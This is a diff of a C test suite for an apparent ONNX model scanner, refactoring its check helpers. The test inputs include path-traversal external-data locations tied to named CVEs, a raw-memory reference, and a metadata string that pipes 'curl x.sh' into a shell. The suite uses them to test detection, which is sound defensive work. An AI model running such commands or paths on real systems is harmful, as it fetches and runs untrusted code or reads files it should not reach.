@@ -106,23 +106,6 @@ static struct message external(const char *location)
     return t;
 }
 
-static bool is(const struct findings *f, enum sr_verdict verdict, enum sr_rule rule)
-{
-    bool is_so = f->verdict == verdict && findings_has(f, rule);
-    if (!is_so) {
-        printf("# %s: %s\n", sr_verdict_name(f->verdict), f->evidence);
-    }
-    return is_so;
-}
-
-static bool passes(const struct findings *f)
-{
-    if (f->verdict != SR_VERDICT_PASS) {
-        printf("# %s: %s\n", sr_verdict_name(f->verdict), f->evidence);
-    }
-    return f->verdict == SR_VERDICT_PASS && f->count == 0;
-}
-
 static void passes_standard_operators(void)
 {
     static const struct {
@@ -137,7 +120,7 @@ static void passes_standard_operators(void)
     for (size_t i = 0; i < sizeof OPS / sizeof OPS[0]; i++) {
         struct message n = node(OPS[i].domain, OPS[i].op);
         struct findings f = of_node(&n);
-        CHECK(passes(&f) && strcmp(f.format, "onnx") == 0);
+        CHECK(findings_pass(&f) && strcmp(f.format, "onnx") == 0);
     }
 }
 
@@ -149,7 +132,7 @@ static void knows_a_model_by_its_bytes(void)
     message_put(&graph, NODE, &n);
     struct message m = model(&graph, NULL);
     struct findings f = findings_of("weights.dat", SR_PROFILE_TENSORS, message_view(&m));
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
     m.data[m.len++] = 0;
     f = findings_of("weights.dat", SR_PROFILE_TENSORS, message_view(&m));
     CHECK(f.verdict == SR_VERDICT_UNPARSABLE && strcmp(f.format, "onnx") != 0);
@@ -165,27 +148,27 @@ static void refuses_what_the_schema_does_not_have(void)
     message_text(&more, 77, "what is this");
     struct message m = model(&graph, &more);
     struct findings f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_UNKNOWN_FIELD));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_UNKNOWN_FIELD));
     more = (struct message){0};
     message_put(&more, GRAPH, &graph);
     m = model(&graph, &more); /* a second graph: some decoders merge, some take the last */
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
     message_text(&n, 4, "Sub");
     f = of_node(&n);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_MALFORMED));
     m = model(&graph, NULL);
     m.len--;
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_TRUNCATED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_TRUNCATED));
     m = (struct message){0};
     message_number(&m, 1, 8);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
     m = (struct message){0};
     message_put(&m, GRAPH, &graph);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
 }
 
 /* ON-3: what stands before the fault, or after it, is still found. */
@@ -197,14 +180,15 @@ static void finds_python_in_a_broken_model(void)
     struct message m = model(&graph, NULL);
     m.data[m.len++] = 7;
     struct findings f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON) && findings_has(&f, SR_RULE_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON) &&
+          findings_has(&f, SR_RULE_MALFORMED));
     struct message broken = {0};
     message_byte(&broken, 0xff);
     memcpy(broken.data + 1, m.data, m.len);
     broken.len = m.len + 1;
     broken.data[0] = 7;
     f = inspect(&broken);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_PYTHON));
 }
 
 static void passes_whole_tensors(void)
@@ -213,33 +197,33 @@ static void passes_whole_tensors(void)
     struct message t = tensor(4, 1);
     message_bytes(&t, 9, ZEROS, 16);
     struct findings f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     f = of_nested_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(4, 1);
     message_bytes(&t, 4, ZEROS, 16); /* packed */
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(3, 22); /* three of INT4 in two bytes, or in two entries */
     message_bytes(&t, 9, ZEROS, 2);
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(3, 22);
     message_bytes(&t, 5, ZEROS, 2);
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(2, 14); /* complex: two floats each */
     message_bytes(&t, 4, ZEROS, 16);
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(0, 1); /* nothing */
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     t = tensor(2, 8);
     message_text(&t, 6, "cat");
     message_text(&t, 6, "dog");
     f = of_tensor(&t);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
 }
 
 /* ON-4, ON-5 */
@@ -278,14 +262,14 @@ static void refuses_tensors_that_are_not_what_they_say(void)
     add_external(&cases[11], "location", "model.bin");
     for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
         struct findings f = of_tensor(&cases[i]);
-        CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
         f = of_nested_tensor(&cases[i]);
-        CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
     }
     struct message string = tensor(1, 8);
     message_bytes(&string, 9, ZEROS, 8);
     struct findings f = of_tensor(&string);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
 }
 
 /* ON-6: CVE-2022-25882, CVE-2024-27318 and their like. */
@@ -298,18 +282,18 @@ static void blocks_external_data_outside(void)
     for (size_t i = 0; i < sizeof PATHS / sizeof PATHS[0]; i++) {
         struct message t = external(PATHS[i]);
         struct findings f = of_tensor(&t);
-        CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
+        CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
         f = of_nested_tensor(&t);
-        CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
+        CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
     }
     struct message t = external("*/_ORT_MEM_ADDR_/*");
     add_external(&t, "offset", "140737353971200");
     struct findings f = of_tensor(&t);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_EXTERNAL_MEMORY));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_EXTERNAL_MEMORY));
     t = external("../x"); /* whatever else is wrong with it */
     message_number(&t, 1, UINT64_MAX);
     f = of_tensor(&t);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
 }
 
 static void refers_to_external_data(void)
@@ -319,7 +303,7 @@ static void refers_to_external_data(void)
     add_external(&t, "length", "16");
     add_external(&t, "checksum", "da39a3ee5e6b4b0d3255bfef95601890afd80709");
     struct findings f = of_tensor(&t);
-    CHECK(passes(&f) && strcmp(f.referred, "sub/weights.bin\n") == 0);
+    CHECK(findings_pass(&f) && strcmp(f.referred, "sub/weights.bin\n") == 0);
 }
 
 /* A model and the file that it takes its tensor from, in either order. */
@@ -380,21 +364,21 @@ static void refuses_external_data_that_is_not_defined(void)
         struct message t = external("weights.bin");
         add_external(&t, CASES[i].key, CASES[i].value);
         struct findings f = of_tensor(&t);
-        CHECK(is(&f, CASES[i].verdict, CASES[i].rule));
+        CHECK(findings_is(&f, CASES[i].verdict, CASES[i].rule));
     }
     struct message t = tensor(4, 1);
     message_number(&t, 14, 1);
     struct findings f = of_tensor(&t);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* no location */
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* no location */
     t = external("weights.bin");
     message_bytes(&t, 9, "0123456789abcdef", 16);
     f = of_tensor(&t);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* here and there */
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* here and there */
     t = tensor(1, 8);
     message_number(&t, 14, 1);
     add_external(&t, "location", "weights.bin");
     f = of_tensor(&t);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* strings */
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_EXTERNAL)); /* strings */
 }
 
 static struct findings of_sparse(const struct message *values, const struct message *indices)
@@ -420,24 +404,24 @@ static void looks_into_sparse_tensors(void)
     message_bytes(&values, 9, ZEROS, 8);
     message_bytes(&indices, 9, ZEROS, 16);
     struct findings f = of_sparse(&values, &indices);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     f = of_sparse(NULL, &indices);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
     f = of_sparse(&values, &values); /* not int64 */
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
     struct message pairs = tensor(2, 7);
     message_number(&pairs, 1, 2);
     message_bytes(&pairs, 9, ZEROS, 32);
     f = of_sparse(&values, &pairs);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     pairs = tensor(2, 7);
     message_number(&pairs, 1, 3);
     message_bytes(&pairs, 9, ZEROS, 48);
     f = of_sparse(&values, &pairs);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_ONNX_TENSOR));
     struct message outside = external("../x");
     f = of_sparse(&outside, &indices);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_REFERENCE_OUTSIDE));
 }
 
 /* ON-8, ON-9 */
@@ -463,7 +447,7 @@ static void reports_operators_of_others(void)
     for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
         struct message n = node(CASES[i].domain, CASES[i].op);
         struct findings f = of_node(&n);
-        CHECK(is(&f, CASES[i].verdict, CASES[i].rule));
+        CHECK(findings_is(&f, CASES[i].verdict, CASES[i].rule));
     }
     struct message opset = {0};
     struct message more = {0};
@@ -473,7 +457,7 @@ static void reports_operators_of_others(void)
     message_put(&more, 8, &opset);
     struct message m = model(&graph, &more);
     struct findings f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_CUSTOM_DOMAIN));
+    CHECK(findings_is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_CUSTOM_DOMAIN));
 }
 
 static struct message function(const char *name, const char *calls)
@@ -508,13 +492,13 @@ static void follows_functions(void)
     message_put(&more, 25, &leaf);
     struct message m = model(&graph, &more);
     struct findings f = inspect(&m);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
 
     struct message twice = more;
     message_put(&twice, 25, &leaf);
     m = model(&graph, &twice);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
+    CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
 
     struct message cycle = {0};
     struct message c = function("c", "a");
@@ -523,20 +507,20 @@ static void follows_functions(void)
     message_put(&cycle, 25, &c);
     m = model(&graph, &cycle);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));
 
     struct message self = {0};
     struct message s = function("a", "a");
     message_put(&self, 25, &s);
     m = model(&graph, &self);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));
+    CHECK(findings_is(&f, SR_VERDICT_BLOCK, SR_RULE_ONNX_FUNCTION_CYCLE));
 
     struct message open = {0};
     message_put(&open, 25, &a);
     m = model(&graph, &open);
     f = inspect(&m);
-    CHECK(is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR)); /* b is not there */
+    CHECK(findings_is(&f, SR_VERDICT_REVIEW, SR_RULE_ONNX_UNKNOWN_OPERATOR)); /* b is not there */
 }
 
 /* ON-12 */
@@ -549,7 +533,7 @@ static void refuses_attributes_of_two_minds(void)
     message_number(&attribute, 20, 2);
     message_put(&n, ATTRIBUTE, &attribute);
     struct findings f = of_node(&n);
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     static const struct {
         uint32_t field;
         uint64_t value;
@@ -562,7 +546,7 @@ static void refuses_attributes_of_two_minds(void)
         message_number(&attribute, MORE[i].field, MORE[i].value);
         message_put(&n, ATTRIBUTE, &attribute);
         f = of_node(&n);
-        CHECK(is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
+        CHECK(findings_is(&f, SR_VERDICT_UNPARSABLE, SR_RULE_GRAPH_MALFORMED));
     }
 }
 
@@ -583,14 +567,14 @@ static void looks_at_texts(void)
 {
     static const char CODE[] = "import subprocess; subprocess.run('curl x.sh | sh', shell=True)";
     struct findings f = of_metadata("author", "somebody");
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     f = of_metadata("author", CODE);
     CHECK(f.verdict == SR_VERDICT_REVIEW && f.count > 0);
     f = of_metadata("pkg.torch.onnx.stack_trace",
                     "File \"/a/model.py\", line 10, in forward\n    import x; return self.conv(x)");
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     f = of_metadata("docs", "https://docs.publisher.example");
-    CHECK(passes(&f));
+    CHECK(findings_pass(&f));
     f = of_metadata("docs", "http://docs.publisher.example/x");
     CHECK(f.verdict == SR_VERDICT_REVIEW);
     f = of_metadata("download_url", "https://docs.publisher.example/x");
@@ -615,7 +599,7 @@ static bool corpus_passes(const char *name)
     size_t len = fread(data, 1, sizeof data, f);
     (void)fclose(f);
     struct findings found = findings_of(name, SR_PROFILE_TENSORS, sr_bytes(data, len));
-    return passes(&found) && found.covered == len;
+    return findings_pass(&found) && found.covered == len;
 }
 
 static void passes_benign_models(void)
